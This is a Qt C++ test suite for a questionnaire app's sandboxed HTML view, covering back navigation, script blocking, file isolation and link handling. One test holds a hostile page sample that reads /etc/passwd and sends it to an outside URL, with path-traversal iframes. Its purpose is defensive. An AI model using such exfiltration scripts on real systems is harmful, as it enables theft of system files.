// The real view shows pages and nothing more: no way back to an earlier page,
// no page script, no file beyond what the page may show, no outside program
// but the browser and mail, and the waiting page on screen before a scan.
#include "Fixtures.h"
#include "WebTestSupport.h"

#include "screens/people/FrmKartochka.h"
#include "engines/PersonFile.h"
#include "ground/App.h"
#include "shell/MainWindow.h"
#include "shell/QtPlatform.h"
#include "shell/Startup.h"
#include "screens/taking/TestFlow.h"
#include "ground/windows/HtmlView.h"
#include "views/HtmlWindow.h"
#include "screens/views/Splash.h"
#include "views/WebView.h"
#include "screens/views/FrmHTML.h"

#include <QApplication>
#include <QDesktopServices>
#include <QDir>
#include <QImage>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QWebEngineHistory>

#include <sys/stat.h>
#include <unistd.h>

using webtest::clickElement;
using webtest::runJs;
using webtest::waitForText;

namespace {

// Records what the desktop was asked to open, for the schemes a page might try.
class UrlRecorder : public QObject {
    Q_OBJECT
public:
    QList<QUrl> opened;
public Q_SLOTS:
    void open(const QUrl& url) { opened << url; }
};

long residentKb()
{
    QFile status(QStringLiteral("/proc/self/status"));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray& line : status.readAll().split('\n')) {
        if (line.startsWith("VmRSS:"))
            return line.mid(6).trimmed().split(' ').value(0).toLong();
    }
    return -1;
}

// The platform of the program, which can look at the screen whenever a scan
// lets the windows repaint.
class WatchedPlatform : public QtPlatform {
public:
    std::function<void()> onKeepPainting;
    void keepPainting() override
    {
        QtPlatform::keepPainting();
        if (onKeepPainting)
            onKeepPainting();
    }
};

// The program with a three-question test open; the card dialog is filled in
// by the model, so the pages are what is tested here.
struct Program {
    QTemporaryDir tmp;
    QString program;
    QString folder;
    WatchedPlatform platform;
    std::unique_ptr<App> app;
    std::unique_ptr<MainWindow> window;
    QString person = QStringLiteral("Анна");

    Program()
    {
        program = tmp.path() + QStringLiteral("/программа/");
        folder = tmp.path() + QStringLiteral("/Знакомства/");
        webtest::writeProgramAndTest(program, folder, {"znak0.jpg", "znak1.jpg", "sunbird.jpg"});
        fixtures::writeBytes(program + QStringLiteral("Тандемо.ini"),
                             fixtures::cp1251Lines({program, QString(), folder + QStringLiteral("Знакомства.tnd")}));
        platform.setExecutableFolder(program);
        app = std::make_unique<App>(platform);
        window = std::make_unique<MainWindow>(*app, platform);
        platform.setModalRunner(WindowId::Kartochka, [this] {
            frmKartochka_Load(*app);
            app->frmKartochka.txtNameFamiliya.text = person;
            app->frmKartochka.txtDataRogdeniya.text = QStringLiteral("1990");
            frmKartochka_selPol_Click(*app, 1);
            frmKartochka_OK_Click(*app);
        });
        Main(*app);
        window->syncFromModel();
        window->show();
        if (!QTest::qWaitForWindowExposed(window.get()))
            qWarning("window not exposed");
    }

    WebView& view() { return *window->view(); }

    void openTest()
    {
        window->action(QStringLiteral("FileNameTest"))->trigger();
        QVERIFY(waitForText(view(), QStringLiteral("Начать тестирование")));
    }

    void answer(int number, const QString& next)
    {
        clickElement(view(), QStringLiteral("a[href='http://tnd.%1']").arg(number));
        QVERIFY(waitForText(view(), next));
    }

    QList<int> answers() const
    {
        QList<int> chosen;
        for (int q = 1; q <= app->st.test.QuestionCount; ++q)
            chosen << app->st.test.Questions[q].NomerOtveta;
        return chosen;
    }

    // Every way back the user has: mouse buttons, keys, the page's history.
    void tryToGoBack()
    {
        QWidget* target = view().focusProxy();
        QVERIFY(target);
        const QPoint at(50, 50);
        for (Qt::MouseButton button : {Qt::BackButton, Qt::ForwardButton}) {
            QTest::mousePress(target, button, {}, at);
            QTest::mouseRelease(target, button, {}, at);
        }
        target->setFocus();
        QTest::keyClick(target, Qt::Key_Left, Qt::AltModifier);
        QTest::keyClick(target, Qt::Key_Right, Qt::AltModifier);
        QTest::keyClick(target, Qt::Key_Backspace);
        QTest::keyClick(target, Qt::Key_Back);
        runJs(view(), QStringLiteral("history.back(); history.go(-1); 1"));
        view().back();
        view().page()->triggerAction(QWebEnginePage::Back);
        QTest::qWait(700);
        QVERIFY(!view().history()->canGoBack());
    }
};

}  // namespace

class TestPageView : public QObject {
    Q_OBJECT

private Q_SLOTS:
    // The mouse's Back button on question 3 once showed question 2 while the
    // program stayed on 3, and the next click recorded the wrong answer.
    void noWayBackFromAQuestion()
    {
        Program p;
        p.openTest();
        clickElement(p.view(), QStringLiteral("a[href$='s.ru']"));
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 1?")));
        p.answer(1, QStringLiteral("Вопрос 2?"));
        p.answer(2, QStringLiteral("Вопрос 3?"));

        p.tryToGoBack();
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 3?")));
        QVERIFY(!waitForText(p.view(), QStringLiteral("Вопрос 2?"), 200));
        QCOMPARE(p.app->st.main.CurrentQuestion, 3);
        QCOMPARE(p.answers(), (QList<int>{1, 2, -1}));

        p.answer(0, QStringLiteral("Тест пройден."));
        QCOMPARE(p.answers(), (QList<int>{1, 2, 0}));
    }

    // The same with the real mouse of an X11 desktop: buttons 8 and 9 are
    // Back and Forward. Runs when the tests run on X11 with xdotool at hand.
    void noWayBackWithTheRealMouse()
    {
        const bool ready = QGuiApplication::platformName() == QLatin1String("xcb") &&
                           !QStandardPaths::findExecutable(QStringLiteral("xdotool")).isEmpty();
        // The X11 run of the suite asks for this test by name and must not
        // pass by skipping it.
        if (qEnvironmentVariableIsSet("TANDEMO_X11_REQUIRED"))
            QVERIFY2(ready, "needs an X11 display and xdotool");
        if (!ready)
            QSKIP("needs an X11 display and xdotool");
        Program p;
        p.window->activateWindow();
        p.openTest();
        clickElement(p.view(), QStringLiteral("a[href$='s.ru']"));
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 1?")));
        p.answer(1, QStringLiteral("Вопрос 2?"));
        p.answer(2, QStringLiteral("Вопрос 3?"));
        const QPoint centre = p.view().mapToGlobal(p.view().rect().center());
        const auto xdotool = [](const QStringList& args) {
            return QProcess::execute(QStringLiteral("xdotool"), args) == 0;
        };
        QVERIFY(xdotool({QStringLiteral("mousemove"), QString::number(centre.x()), QString::number(centre.y())}));
        for (const char* button : {"8", "9", "8"}) {
            QVERIFY(xdotool({QStringLiteral("click"), QLatin1String(button)}));
            QTest::qWait(300);
        }
        QVERIFY(xdotool({QStringLiteral("key"), QStringLiteral("alt+Left")}));
        QVERIFY(xdotool({QStringLiteral("key"), QStringLiteral("BackSpace")}));
        QTest::qWait(700);
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 3?")));
        QVERIFY(!waitForText(p.view(), QStringLiteral("Вопрос 2?"), 200));
        QCOMPARE(p.app->st.main.CurrentQuestion, 3);
        QCOMPARE(p.answers(), (QList<int>{1, 2, -1}));
        p.answer(0, QStringLiteral("Тест пройден."));
        QCOMPARE(p.answers(), (QList<int>{1, 2, 0}));
    }

    // After a saved result the next person's start page leads nowhere back,
    // and the end page's "Поиск пары", still on screen for a moment after the
    // program moved on, searches for nobody.
    void nothingOfThePreviousPerson()
    {
        Program p;
        p.openTest();
        clickElement(p.view(), QStringLiteral("a[href$='s.ru']"));
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 1?")));
        p.answer(1, QStringLiteral("Вопрос 2?"));
        p.answer(0, QStringLiteral("Вопрос 3?"));
        p.answer(2, QStringLiteral("Тест пройден."));
        clickElement(p.view(), QStringLiteral("a[href='http://tnd.r']"));
        QVERIFY(waitForText(p.view(), QStringLiteral("Поиск пары")));

        // The program has moved on to the next person; the screen has not yet.
        ReStart(*p.app, 0);
        clickElement(p.view(), QStringLiteral("a[href$='p.ru']"));
        QTest::qWait(700);
        QVERIFY(!QApplication::activeModalWidget());
        QVERIFY(p.app->st.CardFields[1].NameFamiliya.isEmpty());

        p.window->syncFromModel();
        QVERIFY(waitForText(p.view(), QStringLiteral("Начать тестирование")));
        p.tryToGoBack();
        QVERIFY(waitForText(p.view(), QStringLiteral("Начать тестирование")));
        QVERIFY(!waitForText(p.view(), QStringLiteral("Поиск пары"), 200));
        QCOMPARE(p.app->st.main.Phase, TestPhase::StartPage);
    }

    // Script in a question does not run, and even a script that did could
    // not read the disk through the page: the receiver hears nothing.
    void aPageGetsNothingFromTheDisk()
    {
        WebView view;
        view.resize(500, 300);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QStringList commands;
        view.setReceiver([&commands](const QString& text) { commands << text; });
        QTemporaryDir tmp;
        const QString page = QStringLiteral(
            "<html><body><p id='t'>вопрос</p>"
            "<script>document.getElementById('t').textContent = 'script ran';"
            "var x = new XMLHttpRequest(); x.open('GET', '/etc/passwd', false); x.send();"
            "location.href = 'http://tnd.' + encodeURIComponent(x.responseText).slice(0, 200);"
            "fetch('file:///etc/passwd').then(function (r) { return r.text(); })"
            ".then(function (t) { location.href = 'https://example.org/?' + t; });</script>"
            "<iframe id='a' src='/etc/passwd'></iframe><iframe id='b' src='file:///etc/passwd'></iframe>"
            "<iframe id='c' src='../../../../../../etc/passwd'></iframe>"
            "<p>конец страницы</p></body></html>");
        view.loadHtml(page, tmp.path() + QLatin1Char('/'));
        QVERIFY(waitForText(view, QStringLiteral("конец страницы")));
        QTest::qWait(500);
        QCOMPARE(runJs(view, QStringLiteral("document.getElementById('t').textContent")).toString(),
                 QStringLiteral("вопрос"));
        for (const char* frame : {"a", "b", "c"}) {
            const QString read = runJs(view, QStringLiteral("(function(){ var d = document.getElementById('%1')"
                                                            ".contentDocument; return d && d.body ? d.body.innerText : ''; })()")
                                                 .arg(QLatin1String(frame)))
                                     .toString();
            QVERIFY2(!read.contains(QStringLiteral("root:")), frame);
        }
        // Even script of our own, which does run, gets nothing from the page's address.
        for (const char* address : {"/etc/passwd", "file:///etc/passwd", "/proc/self/environ"}) {
            const QString read =
                runJs(view, QStringLiteral("(function(){ try { var x = new XMLHttpRequest(); x.open('GET', '%1', false);"
                                           " x.send(); return x.responseText; } catch (e) { return ''; } })()")
                                .arg(QLatin1String(address)))
                    .toString();
            QVERIFY2(read.isEmpty(), address);
        }
        QVERIFY(commands.isEmpty());
    }

    // A photo path that is no picture file at all costs neither memory nor
    // the interface; a huge file is streamed, not read whole.
    void photoPathsThatAreNoPictures_data()
    {
        QTest::addColumn<QString>("photo");
        QTest::newRow("kernel page map") << QStringLiteral("/proc/self/pagemap");
        QTest::newRow("endless device") << QStringLiteral("/dev/zero");
        QTest::newRow("pipe") << QStringLiteral("FIFO");
        QTest::newRow("1 GB file") << QStringLiteral("HUGE");
    }
    void photoPathsThatAreNoPictures()
    {
        QFETCH(QString, photo);
        QTemporaryDir tmp;
        const QString folder = tmp.path() + QLatin1Char('/');
        if (photo == QLatin1String("FIFO")) {
            photo = folder + QStringLiteral("фото.jpg");
            QVERIFY(mkfifo(QFile::encodeName(photo).constData(), 0600) == 0);
        } else if (photo == QLatin1String("HUGE")) {
            photo = folder + QStringLiteral("фото.jpg");
            QFile huge(photo);
            QVERIFY(huge.open(QIODevice::WriteOnly));
            QVERIFY(huge.resize(qint64(1) << 30));
        }
        WebView view;
        view.resize(500, 300);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        const long before = residentKb();
        // The interface keeps running while the page loads.
        int ticks = 0;
        QTimer tick;
        connect(&tick, &QTimer::timeout, [&ticks] { ++ticks; });
        tick.start(50);
        view.loadHtml(QStringLiteral("<html><body><img id='photo' src='%1'><p>конец страницы</p></body></html>")
                          .arg(photo.toHtmlEscaped()),
                      PageFiles{{folder}, {photo}});
        QVERIFY(waitForText(view, QStringLiteral("конец страницы")));
        QTest::qWait(1500);
        QVERIFY2(ticks >= 10, qPrintable(QString::number(ticks)));
        QCOMPARE(runJs(view, QStringLiteral("document.getElementById('photo').naturalWidth")).toInt(), 0);
        const long grown = residentKb() - before;
        QVERIFY2(grown < 64 * 1024, qPrintable(QStringLiteral("grew by %1 kB").arg(grown)));
    }

    // The start page stays a page of the program however many pages the
    // list window shows meanwhile: once, after a while of lists and cards,
    // its links turned red under the pointer and did nothing.
    void startPageAnswersAfterManyListPages()
    {
        Program p;
        p.openTest();
        WebView list;
        list.resize(400, 300);
        list.show();
        QVERIFY(QTest::qWaitForWindowExposed(&list));
        for (int i = 1; i <= 40; ++i)
            list.loadHtml(QStringLiteral("<html><body>страница %1</body></html>").arg(i), PageFiles{});
        QVERIFY(waitForText(list, QStringLiteral("страница 40")));
        clickElement(p.view(), QStringLiteral("a[href$='s.ru']"));
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 1?")));
        QCOMPARE(p.app->st.main.Phase, TestPhase::Attempt);
    }

    // What one page may show is that page's alone: while the list window
    // shows a card whose photo names a file, a question in the main window
    // that names the same file by its full path gets nothing. And a photo is
    // shown only when it is a picture by its content.
    void filesStayWithTheirPage()
    {
        QTemporaryDir tmp;
        const QString root = tmp.path() + QLatin1Char('/');
        for (const char* folder : {"тест", "другой", "личное"})
            QVERIFY(QDir().mkpath(root + QString::fromUtf8(folder)));
        const QString photo = root + QStringLiteral("личное/фото.jpg");
        QImage image(40, 30, QImage::Format_RGB32);
        image.fill(Qt::darkGreen);
        QVERIFY(image.save(photo, "JPG"));
        const QString text = root + QStringLiteral("личное/письмо.txt");
        fixtures::writeBytes(text, QByteArray("private letter text"));

        const auto frameText = [](WebView& view) {
            return runJs(view, QStringLiteral("(function(){try{return document.getElementById('f').contentDocument"
                                              ".body.textContent}catch(e){return ''}})()"))
                .toString();
        };
        const auto imageWidth = [](WebView& view) {
            return runJs(view, QStringLiteral("document.getElementById('p').naturalWidth")).toInt();
        };
        WebView list;
        WebView main;
        for (WebView* view : {&list, &main}) {
            view->resize(500, 300);
            view->show();
            QVERIFY(QTest::qWaitForWindowExposed(view));
        }
        // The card's photo is a picture: shown on the card page.
        list.loadHtml(QStringLiteral("<html><body><img id='p' src='%1'><p>карточка</p></body></html>").arg(photo),
                      PageFiles{{root + QStringLiteral("тест/")}, {photo}});
        QVERIFY(waitForText(list, QStringLiteral("карточка")));
        QTRY_COMPARE_WITH_TIMEOUT(imageWidth(list), 40, 5000);
        // The question names it too, and the text beside it.
        main.loadHtml(QStringLiteral("<html><body><img id='p' src='%1'><iframe id='f' src='%2'></iframe>"
                                     "<p>вопрос</p></body></html>")
                          .arg(photo, text),
                      PageFiles{{root + QStringLiteral("другой/")}, {}});
        QVERIFY(waitForText(main, QStringLiteral("вопрос")));
        QTest::qWait(500);
        QCOMPARE(imageWidth(main), 0);
        QCOMPARE(frameText(main), QString());

        // A card whose "photo" is a text file: the page shows no text of it,
        // and the other window's page cannot reach it either.
        list.loadHtml(QStringLiteral("<html><body><iframe id='f' src='%1'></iframe><p>карточка 2</p></body></html>")
                          .arg(text),
                      PageFiles{{root + QStringLiteral("тест/")}, {text}});
        QVERIFY(waitForText(list, QStringLiteral("карточка 2")));
        main.loadHtml(QStringLiteral("<html><body><iframe id='f' src='%1'></iframe><p>вопрос 2</p></body></html>")
                          .arg(text),
                      PageFiles{{root + QStringLiteral("другой/")}, {}});
        QVERIFY(waitForText(main, QStringLiteral("вопрос 2")));
        QTest::qWait(500);
        QCOMPARE(frameText(list), QString());
        QCOMPARE(frameText(main), QString());
        // The same file in a folder the page may show is shown: the checks
        // above refuse for the right reason, not because frames never load.
        main.loadHtml(QStringLiteral("<html><body><iframe id='f' src='%1'></iframe><p>вопрос 3</p></body></html>")
                          .arg(text),
                      PageFiles{{root + QStringLiteral("личное/")}, {}});
        QVERIFY(waitForText(main, QStringLiteral("вопрос 3")));
        QTRY_COMPARE_WITH_TIMEOUT(frameText(main), QStringLiteral("private letter text"), 5000);
    }

    // A link to a local file or to another program's scheme, clicked on a
    // question page, opens nothing; mail goes to the desktop.
    void outsideLinksOnAQuestionPage()
    {
        Program p;
        UrlRecorder desktop;
        for (const char* scheme : {"file", "steam", "mailto", "http", "https"})
            QDesktopServices::setUrlHandler(QLatin1String(scheme), &desktop, "open");
        p.openTest();
        p.app->st.test.Questions[1].Vopros =
            QStringLiteral("Вопрос 1? <a id='f' href='file:///etc/passwd'>файл</a> "
                           "<a id='s' href='steam://run/12345678'>игра</a> "
                           "<a id='m' href='mailto:agency@example.org'>почта</a>");
        clickElement(p.view(), QStringLiteral("a[href$='s.ru']"));
        QVERIFY(waitForText(p.view(), QStringLiteral("Вопрос 1?")));
        const QUrl page = p.view().url();
        clickElement(p.view(), QStringLiteral("#f"));
        clickElement(p.view(), QStringLiteral("#s"));
        QTest::qWait(700);
        QVERIFY(desktop.opened.isEmpty());
        QCOMPARE(p.view().url(), page);
        QCOMPARE(p.app->st.main.CurrentQuestion, 1);
        clickElement(p.view(), QStringLiteral("#m"));
        QTRY_COMPARE_WITH_TIMEOUT(desktop.opened, QList<QUrl>{QUrl(QStringLiteral("mailto:agency@example.org"))}, 5000);
        QCOMPARE(p.answers(), (QList<int>{-1, -1, -1}));
        for (const char* scheme : {"file", "steam", "mailto", "http", "https"})
            QDesktopServices::unsetUrlHandler(QLatin1String(scheme));
    }

    void splashPictureWithAnApostrophe()
    {
        Program p;
        const QString picture = p.program + QStringLiteral("it's.jpg");
        QImage image(40, 30, QImage::Format_RGB32);
        image.fill(Qt::darkGreen);
        QVERIFY(image.save(picture, "JPG"));
        p.app->st.folders.SplashPicture = picture;
        ShowZastavka(*p.app);
        p.window->syncFromModel();
        QVERIFY(waitForText(p.view(), QStringLiteral("Создать тест")));
        QTRY_COMPARE_WITH_TIMEOUT(runJs(p.view(), QStringLiteral("document.images[0].naturalWidth")).toInt(), 40, 5000);
        QCOMPARE(runJs(p.view(), QStringLiteral("document.images[0].attributes.length")).toInt(), 2);
    }

    // The waiting page is painted before the scan of a large folder begins,
    // and the window repaints while it runs.
    void waitingPageOnScreenDuringTheScan()
    {
        Program p;
        p.openTest();
        for (int i = 0; i < 2000; ++i) {
            Kartochka man;
            man.NameFamiliya = QStringLiteral("Иван %1").arg(i);
            man.DataRogdeniya = 1980;
            man.Otvety = QStringLiteral("012");
            fixtures::writeBytes(p.folder + QStringLiteral("m%1.tnm").arg(i), PersonFileContent(man));
        }
        // The list window as the menu opens it, shown without its own modal
        // loop so that the test can watch it.
        p.app->st.list.Mode = HtmlWindowMode::PeopleList;
        p.app->st.people.ListWomen = false;
        frmHTML_Load(*p.app);
        HtmlWindow window(*p.app, p.window.get());
        int looks = 0;
        int waitingShown = 0;
        p.platform.onKeepPainting = [&] {
            ++looks;
            // What is on screen now, not what the program meant to show.
            const QImage shot = window.view()->grab().toImage();
            int dark = 0;
            for (int y = 0; y < std::min(shot.height(), 60); ++y)
                for (int x = 0; x < shot.width(); ++x)
                    dark += qGray(shot.pixel(x, y)) < 100 ? 1 : 0;
            if (!window.view()->isPainting() && dark > 20)
                ++waitingShown;
        };
        window.show();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QVERIFY(waitForText(*window.view(), QStringLiteral("всего: 2000"), 60000));
        QVERIFY2(looks >= 10, qPrintable(QString::number(looks)));
        QCOMPARE(waitingShown, looks);
        p.platform.onKeepPainting = {};
        window.close();
    }
};

static const bool schemeRegistered = (WebView::registerScheme(), true);
QTEST_MAIN(TestPageView)
#include "tst_pageview.moc"
